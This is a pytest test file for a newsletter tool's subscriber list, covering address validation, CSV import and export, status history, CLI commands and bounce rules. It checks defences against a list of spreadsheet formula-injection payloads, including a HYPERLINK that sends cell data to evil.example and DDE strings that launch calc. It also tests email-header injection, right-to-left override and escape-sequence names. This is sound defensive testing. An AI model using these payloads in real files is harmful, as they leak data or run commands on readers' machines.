"""Subscribers: validation, the CSV (mash.subscribers), the list in the store, the CLI."""

from __future__ import annotations

import csv
import io
import tempfile
import threading
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mash.errors import ConfigError
from mash.mail import make_message_id
from mash.records import Bounce
from mash.store import Store, open_store
from mash.subscribers import (
    BOUNCED,
    COMPLAINED,
    PENDING,
    SUBSCRIBED,
    UNSUBSCRIBED,
    ImportReport,
    Subscriber,
    bounce_month,
    clean_name,
    decide_bounce,
    validate_email,
)
from mash.subscribers.csv import (
    format_subscribers,
    load_subscribers,
    parse_subscribers,
    save_subscribers,
    spreadsheet_safe,
)


@pytest.mark.parametrize(
    "address",
    ["ann@example.com", "first.last+tag@sub.example.co.uk", "o'brien@example.ie", "x@a-b.org"],
)
def test_valid_addresses(address: str) -> None:
    assert validate_email(address) == address


def test_domain_is_lower_cased_and_space_trimmed() -> None:
    assert validate_email("  Ann@Example.COM ") == "Ann@example.com"


@pytest.mark.parametrize(
    "address",
    [
        "",
        "plain",
        "@example.com",
        "ann@",
        "ann@localhost",
        "ann@@example.com",
        "ann example@example.com",
        "ann@exa mple.com",
        "ann@-example.com",
        "ann.@example.com",
        ".ann@example.com",
        "a..b@example.com",
        "ann@example.com\r\nBcc: x@y.org",
        "ann@1.2.3.4",
        "ann@exam_ple.com",
        "\u00e9l\u00e8ve@example.fr",
        "a" * 65 + "@example.com",
    ],
)
def test_invalid_addresses(address: str) -> None:
    with pytest.raises(ValueError):
        validate_email(address)


@given(st.text(max_size=40))
def test_valid_addresses_never_carry_controls_or_spaces(text: str) -> None:
    try:
        address = validate_email(text)
    except ValueError:
        return
    assert not any(c.isspace() or ord(c) < 32 for c in address)
    assert address.count("@") == 1


def test_parse_with_header_in_any_order() -> None:
    result = parse_subscribers(
        "status,email,name\nsubscribed,ann@example.com,Ann\n,bob@example.com,Bob\n", "s.csv"
    )
    assert result.subscribers == (
        Subscriber("ann@example.com", "Ann", SUBSCRIBED),
        Subscriber("bob@example.com", "Bob", SUBSCRIBED),
    )
    assert result.problems == ()


def test_parse_without_header_and_with_comments_and_blank_lines() -> None:
    text = "# our list\nann@example.com,Ann\n\ncid@example.com,,unsubscribed\n"
    result = parse_subscribers(text, "s.csv")
    assert [s.email for s in result.subscribers] == ["ann@example.com", "cid@example.com"]
    assert [s.email for s in result.active] == ["ann@example.com"]


def test_bad_rows_are_reported_by_line_and_skipped() -> None:
    text = (
        "email,name,status\n"
        "ann@example.com,Ann,\n"
        "nope,Bad,\n"
        "bob@example.com,Bob,paused\n"
        "ANN@example.com,Ann again,\n"
        "cid@example.com,Cid,active\n"
    )
    result = parse_subscribers(text, "subs.csv")
    assert [s.email for s in result.subscribers] == ["ann@example.com", "cid@example.com"]
    assert [p.split(": ")[0] for p in result.problems] == [
        "subs.csv:3",
        "subs.csv:4",
        "subs.csv:5",
    ]
    assert "not an email address" in result.problems[0]
    assert "unknown status 'paused'" in result.problems[1]
    assert "duplicate" in result.problems[2]


def test_names_with_line_breaks_are_flattened() -> None:
    result = parse_subscribers('email,name\nann@example.com,"Ann\r\nBcc: x@y.org"\n', "s.csv")
    assert result.subscribers[0].name == "Ann Bcc: x@y.org"


def test_missing_file_is_a_config_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no such subscribers file"):
        load_subscribers(tmp_path / "none.csv")


def test_utf8_bom_and_non_ascii_names(tmp_path: Path) -> None:
    path = tmp_path / "s.csv"
    path.write_bytes("\ufeffemail,name\nzoe@example.com,Zoë Ångström\n".encode())
    assert load_subscribers(path).subscribers == (Subscriber("zoe@example.com", "Zoë Ångström"),)


def test_every_status_and_the_consent_columns_are_read() -> None:
    text = (
        "email,status,consent_source,consented_at,status_reason\n"
        "a@example.com,pending,form,2026-11-02T10:00:00+01:00,asked on the site\n"
        "b@example.com,complained,,2026-11-03T08:00:00,\n"
        "c@example.com,bounced,fax,,\n"
        "d@example.com,subscribed,,yesterday,\n"
    )
    result = parse_subscribers(text, "s.csv")
    a, b = result.subscribers
    assert (a.status, a.consent_source, a.status_reason) == (PENDING, "form", "asked on the site")
    assert a.consented_at == datetime(2026, 11, 2, 9, tzinfo=UTC)
    assert (b.status, b.consented_at) == (COMPLAINED, datetime(2026, 11, 3, 8, tzinfo=UTC))
    assert "unknown consent_source 'fax'" in result.problems[0]
    assert "consented_at is not an ISO 8601 time: 'yesterday'" in result.problems[1]


# --- the list in the store, through the CLI (both engines) --------------------------------


def mash(tmp_path: Path, *args: str) -> int:
    from mash.cli import main

    config = tmp_path / "feeds.yaml"
    if not config.exists():
        config.write_text("feeds:\n  - https://example.org/feed\n")
    return main(["--config", str(config), *args])


def test_add_remove_list_round_trip(
    tmp_path: Path, database_env: str | Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert mash(tmp_path, "subscribers", "add", "ann@example.com", "--name", "Ann") == 0
    assert mash(tmp_path, "subscribers", "add", "bob@example.com") == 0
    assert mash(tmp_path, "subscribers", "remove", "ANN@example.com") == 0
    assert mash(tmp_path, "subscribers", "remove", "nobody@example.com") == 1
    assert "nobody@example.com is not on the list" in capsys.readouterr().err
    assert mash(tmp_path, "subscribers", "list") == 0
    out = capsys.readouterr().out.splitlines()
    assert out == [
        "ann@example.com\tAnn\tunsubscribed\tremoved by the editor (mash subscribers remove)",
        "bob@example.com\t\tsubscribed\tadded by the editor (mash subscribers add)",
    ]
    assert mash(tmp_path, "subscribers", "add", "ann@example.com") == 0
    assert mash(tmp_path, "subscribers", "remove", "bob@example.com", "--purge") == 0
    with open_store(database_env) as store:
        (ann,) = store.subscribers()
        history = store.subscriber_history()
    assert (ann.email, ann.name, ann.status, ann.consent_source) == (
        "ann@example.com",
        "Ann",
        SUBSCRIBED,
        "cli",
    )
    assert ann.consented_at is not None and ann.confirmed_at is None
    assert [(c.email, c.old, c.new) for c in history] == [
        ("ann@example.com", None, SUBSCRIBED),
        ("ann@example.com", SUBSCRIBED, UNSUBSCRIBED),
        ("ann@example.com", UNSUBSCRIBED, SUBSCRIBED),
    ]  # bob's went with --purge


def test_add_refuses_a_bad_address(tmp_path: Path, database_env: str | Path) -> None:
    assert mash(tmp_path, "subscribers", "add", "not-an-address") == 2
    assert mash(tmp_path, "subscribers", "add", "zed@example.com", "--name", "Zed\x1b[31m") == 2
    with open_store(database_env) as store:
        assert store.subscribers() == ()


def test_import_merges_without_resubscribing(
    tmp_path: Path, database_env: str | Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with open_store(database_env) as store:
        store.import_subscribers(
            [Subscriber("ann@example.com", "Ann"), Subscriber("bob@example.com", "", UNSUBSCRIBED)],
            "old.csv",
        )
    source = tmp_path / "new.csv"
    source.write_text(
        "email,name\nbob@example.com,Bob\ncid@example.com,Cid\nbroken,X\nann@example.com,Ann\n"
    )
    assert mash(tmp_path, "subscribers", "import", str(source)) == 0
    err = capsys.readouterr().err
    assert f"skipped {source}:4: not an email address: 'broken'; row skipped" in err
    assert "1 added, 1 updated, 1 unchanged, 1 row skipped" in err
    with open_store(database_env) as store:
        rows = {s.email: s for s in store.subscribers()}
        logged = store.engine.query("SELECT kind, added, skipped FROM subscriber_imports")
    assert (rows["bob@example.com"].name, rows["bob@example.com"].status) == ("Bob", UNSUBSCRIBED)
    cid = rows["cid@example.com"]
    assert (cid.status, cid.consent_source, cid.status_reason) == (
        SUBSCRIBED,
        "import",
        "imported from new.csv",
    )
    assert [(r["kind"], r["added"], r["skipped"]) for r in logged] == [
        ("import", 2, 0),
        ("import", 1, 1),
    ]


def test_the_csv_of_an_older_mash_is_imported_once_and_left_untouched(
    tmp_path: Path, database_env: str | Path, capsys: pytest.CaptureFixture[str]
) -> None:
    csv_path = tmp_path / "data" / "subscribers.csv"
    csv_path.parent.mkdir(parents=True, exist_ok=True)
    csv_path.write_text("email,name,status\nann@example.com,Ann,\nbob@example.com,,unsubscribed\n")
    before = csv_path.read_bytes()
    assert mash(tmp_path, "subscribers", "list") == 0
    captured = capsys.readouterr()
    assert "2 added, 0 updated, 0 unchanged, 0 rows skipped" in captured.err
    assert "was imported once and is left as it was" in captured.err
    assert [line.split("\t")[:3] for line in captured.out.splitlines()] == [
        ["ann@example.com", "Ann", SUBSCRIBED],
        ["bob@example.com", "", UNSUBSCRIBED],
    ]
    assert csv_path.read_bytes() == before
    csv_path.write_text("email,name\ncid@example.com,Cid\n")  # changed after the move
    assert mash(tmp_path, "subscribers", "list") == 0
    captured = capsys.readouterr()
    assert "imported once" not in captured.err
    assert [line.split("\t")[0] for line in captured.out.splitlines()] == [
        "ann@example.com",
        "bob@example.com",
    ]
    with open_store(database_env) as store:
        (ann, _bob) = store.subscribers()
        assert store.subscribers_adopted()
    assert (ann.consent_source, ann.status_reason) == ("import", "imported from subscribers.csv")


def test_no_csv_means_nothing_to_import_until_one_appears(store: Store, tmp_path: Path) -> None:
    path = tmp_path / "subscribers.csv"
    assert store.adopt_subscribers_csv(path) is None and not store.subscribers_adopted()
    path.write_text("ann@example.com,Ann\nnot-an-address\n")
    report = store.adopt_subscribers_csv(path)
    assert report is not None and (report.added, len(report.problems)) == (1, 1)
    assert store.adopt_subscribers_csv(path) is None


def test_two_runs_adopting_at_once_import_the_csv_once(
    database: str | Path, tmp_path: Path
) -> None:
    path = tmp_path / "subscribers.csv"
    save_subscribers(path, [Subscriber(f"r{i}@example.com", f"R {i}") for i in range(50)])
    start = threading.Barrier(2)
    results: list[ImportReport | None] = []

    def adopt() -> None:
        with open_store(database) as store:
            start.wait(timeout=30)
            results.append(store.adopt_subscribers_csv(path))

    threads = [threading.Thread(target=adopt) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=60)
    assert sorted(r is None for r in results) == [False, True]
    with open_store(database) as store:
        assert len(store.subscribers()) == 50 and len(store.subscriber_history()) == 50


# --- statuses and their history (both engines) ---------------------------------------------


def test_status_changes_are_recorded_with_their_reason(store: Store) -> None:
    store.import_subscribers([Subscriber("ann@example.com", "Ann")], "/lists/a.csv")
    why = "hard bounce 5.1.1 on the 2026-11 issue"
    assert store.set_status("ann@example.com", BOUNCED, why) == SUBSCRIBED
    assert store.set_status("ANN@example.com", BOUNCED, "again") == BOUNCED  # no change
    assert store.set_status("zed@example.com", BOUNCED, why) is None
    ann = store.subscriber("Ann@Example.com")
    assert ann is not None and (ann.status, ann.status_reason) == (BOUNCED, why)
    history = store.subscriber_history("ann@example.com")
    assert [(c.old, c.new, c.reason) for c in history] == [
        (None, SUBSCRIBED, "imported from a.csv"),
        (SUBSCRIBED, BOUNCED, why),
    ]
    assert all(c.changed.tzinfo is not None for c in history)
    assert store.subscribers(BOUNCED) == (ann,) and store.subscribers(SUBSCRIBED) == ()


def test_an_opt_out_unsubscribes_but_a_bounce_stays_a_bounce(store: Store) -> None:
    store.import_subscribers(
        [
            Subscriber("ann@example.com"),
            Subscriber("bob@example.com", status=BOUNCED),
            Subscriber("cid@example.com", status=PENDING),
        ],
        "a.csv",
    )
    assert store.opt_out("ann@example.com", "list", "one-click")
    assert not store.opt_out("ann@example.com", "list", "confirm-page")  # once
    store.opt_out("bob@example.com", "list", "confirm-page")
    store.opt_out("cid@example.com", "list", "confirm-page")
    store.opt_out("zed@example.com", "list", "one-click")  # not on the list: kept anyway
    rows = {s.email: (s.status, s.status_reason) for s in store.subscribers()}
    assert rows == {
        "ann@example.com": (UNSUBSCRIBED, "one-click unsubscribe"),
        "bob@example.com": (BOUNCED, "imported from a.csv"),
        "cid@example.com": (UNSUBSCRIBED, "unsubscribed on the confirmation page"),
    }
    assert store.opted_out() == {
        "ann@example.com",
        "bob@example.com",
        "cid@example.com",
        "zed@example.com",
    }
    again = store.subscribe(Subscriber("ann@example.com", consent_source="cli"), "added again")
    assert (again.status, again.consent_source) == (SUBSCRIBED, "cli")
    assert "ann@example.com" not in store.opted_out()
    assert [(c.old, c.new) for c in store.subscriber_history("ann@example.com")] == [
        (None, SUBSCRIBED),
        (SUBSCRIBED, UNSUBSCRIBED),
        (UNSUBSCRIBED, SUBSCRIBED),
    ]


def test_an_address_that_opted_out_before_the_import_comes_in_unsubscribed(store: Store) -> None:
    store.add_opt_out("ann@example.com", "list", "one-click")
    store.import_subscribers(
        [Subscriber("ann@example.com"), Subscriber("bob@example.com")], "/x/old.csv"
    )
    ann = store.subscriber("ann@example.com")
    assert ann is not None and ann.status == UNSUBSCRIBED
    assert ann.status_reason == "opted out before the import from old.csv"
    assert store.subscribers(SUBSCRIBED)[0].email == "bob@example.com"


# --- export --------------------------------------------------------------------------------


def test_export_columns_and_round_trip(
    tmp_path: Path, database_env: str | Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with open_store(database_env) as store:
        store.import_subscribers(
            [
                Subscriber("ann@example.com", "=HYPERLINK(1)"),
                Subscriber("bob@example.com", "Bob", PENDING, consent_source="form"),
                Subscriber("-dash@example.com", "@Dash", COMPLAINED, "ARF complaint"),
            ],
            "a.csv",
        )
        store.set_status("ann@example.com", BOUNCED, why := "hard bounce 5.1.1 (2026-11)")
        store.subscribe(Subscriber("cy@example.org", "Cy", consent_source="cli"), "added")
    assert mash(tmp_path, "subscribers", "export") == 0
    text = capsys.readouterr().out
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [
        "email",
        "name",
        "status",
        "status_reason",
        "consent_source",
        "consented_at",
        "confirmed_at",
    ]
    assert sorted(r[:5] for r in rows[1:]) == [
        ["'-dash@example.com", "'@Dash", COMPLAINED, "ARF complaint", "import"],
        ["ann@example.com", "'=HYPERLINK(1)", BOUNCED, why, "import"],
        ["bob@example.com", "Bob", PENDING, "imported from a.csv", "form"],
        ["cy@example.org", "Cy", SUBSCRIBED, "added", "cli"],
    ]  # fmt: skip
    assert all(datetime.fromisoformat(r[5]).tzinfo is not None for r in rows[1:])
    out_file = tmp_path / "export" / "list.csv"
    assert mash(tmp_path, "subscribers", "export", str(out_file)) == 0
    assert out_file.read_text() == text and out_file.stat().st_mode & 0o077 == 0
    with open_store(tmp_path / "other.db") as other:  # the list moved to another store
        other.import_subscribers(load_subscribers(out_file).subscribers, str(out_file))
        again = format_subscribers(other.subscribers())
    assert sorted(again.splitlines()) == sorted(text.splitlines())


# --- names and spreadsheets (see #21) ------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted",
]


def test_names_with_control_characters_are_refused_by_line(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text(
        "email,name\n"
        "ann@example.com,Ann\n"
        "bell@example.com,Bell\x07Ringer\n"
        "eve@example.com,Eve \u202egnp.exe\n"
        "del@example.com,Del\x7f\n"
        "tab@example.com,Tab\tSeparated\n",
        encoding="utf-8",
    )
    listed = load_subscribers(source)
    assert [p.split(": ")[0] for p in listed.problems] == [
        f"{source}:3",
        f"{source}:4",
        f"{source}:5",
    ]
    assert "control character (U+0007)" in listed.problems[0]
    assert "control character (U+202E)" in listed.problems[1]
    names = [s.name for s in listed.subscribers]
    assert names == ["Ann", "Tab Separated"]  # whitespace is flattened, as before
    with pytest.raises(ValueError, match="control character"):
        clean_name("Zed\x1b[31m")


def test_csv_cells_never_start_a_formula_and_read_back_the_same(tmp_path: Path) -> None:
    path = tmp_path / "subscribers.csv"
    people = [Subscriber(f"p{i}@example.com", name) for i, name in enumerate(FORMULAS)]
    people.append(Subscriber("-dash@example.com", "Plain Name"))  # a valid address, too
    save_subscribers(path, people)
    cells = [cell for row in csv.reader(io.StringIO(path.read_text())) for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"Click")' in cells
    assert "''=already quoted" in cells
    assert load_subscribers(path).subscribers == tuple(people)


def test_subscribers_list_neutralises_formulas(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from mash.cli import main

    config = tmp_path / "feeds.yaml"
    config.write_text("feeds:\n  - https://example.org/feed\n")
    save_subscribers(
        tmp_path / "data" / "subscribers.csv",
        [Subscriber(f"p{i}@example.com", name) for i, name in enumerate(FORMULAS)],
    )
    assert main(["--config", str(config), "subscribers", "list"]) == 0
    fields = [f for line in capsys.readouterr().out.splitlines() for f in line.split("\t")]
    assert len(fields) == 4 * len(FORMULAS)  # email, name, status, why
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@"))]


@given(st.text(), st.sampled_from(["", "=", "'", "''=", "@", "-", "+"]))
def test_every_acceptable_name_reads_back_as_written(text: str, start: str) -> None:
    try:
        name = clean_name(start + text)
    except ValueError:
        return  # refused names are the test above
    assert not spreadsheet_safe(name).startswith(("=", "+", "-", "@", "\t", "\r"))
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "subscribers.csv"
        save_subscribers(path, [Subscriber("ann@example.com", name)])
        assert load_subscribers(path).subscribers == (Subscriber("ann@example.com", name),)


# --- the bounce policy (#16) ---------------------------------------------------------------


def _bounce(hard: bool = False, kind: str = "bounce", month: str = "") -> Bounce:
    mid = f"<mash.{month}.0123456789abcdef01234567@example.org>" if month else "<x@relay>"
    status = "" if kind == "complaint" else ("5.1.1" if hard else "4.2.2")
    return Bounce("ann@example.com", status, hard, "mailbox full", kind, message_id=mid)


def test_bounce_month_reads_only_the_message_ids_mash_makes() -> None:
    assert bounce_month(make_message_id("2026-11", "a@example.com", "m@example.org")) == "2026-11"
    assert bounce_month("<2026-11.ann@example.org>") == ""
    assert bounce_month("") == ""


@pytest.mark.parametrize(
    ("bounce", "status", "expected"),
    [
        (_bounce(hard=True), SUBSCRIBED, (BOUNCED, "hard bounce 5.1.1 on the 2026-11 issue")),
        (_bounce(hard=True), PENDING, (BOUNCED, "hard bounce 5.1.1 on the 2026-11 issue")),
        (_bounce(hard=True), UNSUBSCRIBED, None),
        (_bounce(kind="complaint"), SUBSCRIBED, (COMPLAINED, "spam complaint (abuse) on the")),
        (_bounce(kind="complaint"), UNSUBSCRIBED, (COMPLAINED, "spam complaint (abuse) on the")),
        (_bounce(kind="complaint"), BOUNCED, None),
        (_bounce(), SUBSCRIBED, None),  # one soft bounce
    ],
)
def test_hard_bounces_and_complaints_suppress_at_once(
    bounce: Bounce, status: str, expected: tuple[str, str] | None
) -> None:
    decision = decide_bounce(bounce, "2026-11", status, {"2026-11"}, ["2026-11"], 3)
    if expected is None:
        assert decision is None
    else:
        assert decision is not None and decision[0] == expected[0]
        assert decision[1].startswith(expected[1])


def test_soft_bounces_suppress_after_the_limit_of_issues_in_a_row() -> None:
    mailed = ["2026-11", "2026-10", "2026-09", "2026-08"]
    soft = {"2026-11", "2026-10"}
    assert decide_bounce(_bounce(), "2026-11", SUBSCRIBED, soft, mailed, 3) is None
    assert decide_bounce(_bounce(), "2026-11", SUBSCRIBED, soft, mailed, 2) == (
        BOUNCED,
        "soft bounces on 2 issues in a row (2026-10, 2026-11): mailbox full",
    )
    gap = {"2026-11", "2026-10", "2026-08"}  # 2026-09 arrived: the run is broken
    assert decide_bounce(_bounce(), "2026-11", SUBSCRIBED, gap, mailed, 3) is None
    assert decide_bounce(_bounce(), "2026-11", SUBSCRIBED, soft, mailed[:1], 3) is None


def test_the_policy_in_the_store_counts_issues_by_the_ledger(store: Store) -> None:
    store.import_subscribers(
        [Subscriber("ann@example.com"), Subscriber("bob@example.com")], "list.csv"
    )
    for month in ("2026-09", "2026-10", "2026-11"):
        store.mark_sent(month, "ann@example.com", "<m>")
    assert store.apply_bounce(_bounce(month="2026-09"), 3) is None
    assert store.apply_bounce(_bounce(month="2026-10"), 3) is None
    assert store.apply_bounce(_bounce(month="2026-10"), 3) is None  # the same issue twice
    assert store.subscriber("ann@example.com").status == SUBSCRIBED  # type: ignore[union-attr]
    change = store.apply_bounce(_bounce(), 3)  # no issue named: the last one sent
    assert change == (
        BOUNCED,
        "soft bounces on 3 issues in a row (2026-09, 2026-10, 2026-11): mailbox full",
    )
    (last,) = store.subscriber_history("ann@example.com")[-1:]
    assert (last.old, last.new, last.reason) == (SUBSCRIBED, BOUNCED, change[1])
    complaint = replace(_bounce(kind="complaint"), recipient="BOB@example.com")
    assert store.apply_bounce(complaint, 3) == (
        COMPLAINED,
        "spam complaint (abuse) (no issue named)",
    )
    assert store.apply_bounce(replace(complaint, recipient="zed@example.com"), 3) is None
